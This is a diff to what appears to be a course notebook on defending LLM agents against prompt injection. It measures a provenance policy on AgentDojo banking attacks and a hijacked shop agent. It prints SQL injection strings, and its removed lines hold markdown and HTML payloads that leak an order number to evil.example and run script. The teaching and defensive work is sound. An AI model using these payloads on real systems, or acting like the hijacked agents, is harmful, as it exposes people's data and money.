@@ -49,7 +49,6 @@ from helpers.security.controls.fetching import fetch
 from helpers.security.controls.markup import render_markdown
 from helpers.security.controls.urls import UrlGuard
 from helpers.security.policy import BANKING, Call, Provenance
-from helpers.security.policy.suites import FIRST
 from helpers.shop.traffic import day
 
 os.environ["COURSE_MODEL"] = model
@@ -147,12 +146,10 @@ show.table(rows.of_facts(facts), caption="What the policy knows")
 # you a penny. For each call, guess the verdict first.
 
 # %% name="verdicts"
-print("recipient accepts:", BANKING["send_money"].arguments["recipient"])
-sums = [(ANN, 20.0), (BOB, 20.0), (MALLORY, 98.7), (ANN, 9000.0)]
-calls = [*(Call("send_money", {"recipient": who, "amount": sum_}) for who, sum_ in sums),
-         Call("close_account")]
+calls = [Call("close_account"), *(Call("send_money", {"recipient": who, "amount": amount}) for
+         who, amount in [(ANN, 20.0), (BOB, 20.0), (MALLORY, 98.7), (ANN, 9000.0)])]
 show.table(rows.of_verdicts(Provenance(BANKING), calls, request, facts),
-           caption="Verdicts, each with its reason")
+           caption=f"recipient accepts: {BANKING['send_money'].arguments['recipient']}")
 
 # %% [markdown] name="heldout-text"
 # Look at two of them again. The bill itself: naming a file does not make its author you, so that
@@ -171,9 +168,7 @@ show.table(rows.of_verdicts(Provenance(BANKING), calls, request, facts),
 
 # %% name="heldout"
 few = [f"user_task_{number}" for number in range(0, 40, 5)] if fast else None
-held = {"workspace, first result": ("workspace", FIRST["workspace"]),
-        "workspace, tuned": ("workspace", policy.WORKSPACE), "travel": ("travel", policy.TRAVEL)}
-show.table(rows.of_held_out(held, few), caption="Provenance where it was not tuned")
+show.table(rows.of_held_out(few), caption="Provenance where it was not tuned")
 show.table(rows.of_matching(SUITES), caption="Values of checked arguments, banking and slack")
 
 # %% [markdown] name="adaptive-text"
@@ -187,6 +182,8 @@ show.table(rows.of_matching(SUITES), caption="Values of checked arguments, banki
 # %% name="adaptive"
 stacked = {name: policy.adaptive_table(name) for name in SUITES}
 show.table(rows.of_suites(stacked), caption="Attacks that use trusted values only")
+
+# %% name="adaptive-plot"
 adaptive = {name: result.attack_success for name, result in stacked["banking"].items()}
 known = tables["banking"]["provenance"].attack_success
 show.intervals(adaptive, title=f"Provenance lets {known.rate:.0%} of AgentDojo's attacks on banking"
@@ -235,12 +232,7 @@ show.line({name: ([100 * share for share in unread], ys) for name, ys in lines.i
 
 # %% name="fernhill"
 privacy = policy.measure_privacy(pairs=10 if fast else 60)
-counts = {"orders of others disclosed or refunded": str(privacy.disclosed),
-          "stopped by the policy": privacy.stopped("policy"),
-          "stopped by the tool, which knows who is logged in": privacy.stopped("tool"),
-          "own orders shown when asked for": str(privacy.own_shown)}
-show.table([{"what": what, "count": count} for what, count in counts.items()],
-           caption="A hijacked agent behind the policy")
+show.table(rows.of_privacy(privacy), caption="A hijacked agent behind the policy")
 
 # %% [markdown] name="length-text"
 # ## 9. What can be done to the service itself?
@@ -307,12 +299,12 @@ with net.network() as sites:
 
 # %% [markdown] name="sql-text"
 # **SQL.** A customer asks for their orders of some status, and the status is text from outside. How
-# much of *others* does each status bring home: glued into the statement; passed as a parameter;
-# glued, but on a connection whose authorizer knows only the customer's own views?
+# much of *others* does each status bring home: glued into
+# `SELECT id, status FROM orders WHERE status = '...'`; passed as a parameter; glued, but on a
+# connection whose authorizer knows only the customer's own views?
 
 # %% name="sql"
 statuses = ["delivered", "x' OR '1'='1", "x' UNION SELECT email, name FROM customers --"]
-print(service.GLUED.format(table="orders", status=statuses[1]))
 shop = Path(tempfile.mkdtemp()) / "shop.sqlite"
 show.table([{"status": status} | service.others_that_came_back(shop, "C-0042", status)
             for status in statuses], caption="Things that came back and belong to others")
@@ -326,13 +318,8 @@ show.table([{"status": status} | service.others_that_came_back(shop, "C-0042", s
 # its address carries. What would a browser do with these answers, as they are and cleaned?
 
 # %% name="html"
-answers = ["See [our page](https://fernhill.example/returns).",
-           "![ok](https://evil.example/?order=FH-10742)", "[Track it](javascript:alert(1))",
-           "Sent. <img src=x onerror=alert(1)>", "[1]: //evil.example\n\nRead [the terms][1]."]
-cleaned = [render_markdown(answer, hosts={"fernhill.example"}) for answer in answers]
-show.table([{"answer": answer, "harmful as it is": service.harmful(service.naive_html(answer)),
-             "when cleaned": service.harmful(shown.html), "removed": ", ".join(shown.removed)}
-            for answer, shown in zip(answers, cleaned, strict=True)], caption="In a browser")
+cleaned = [render_markdown(answer, hosts={"fernhill.example"}) for answer in service.ANSWERS]
+show.table(service.of_answers(cleaned), caption="In a browser")
 
 # %% [markdown] name="measured-text"
 # ## What you measured
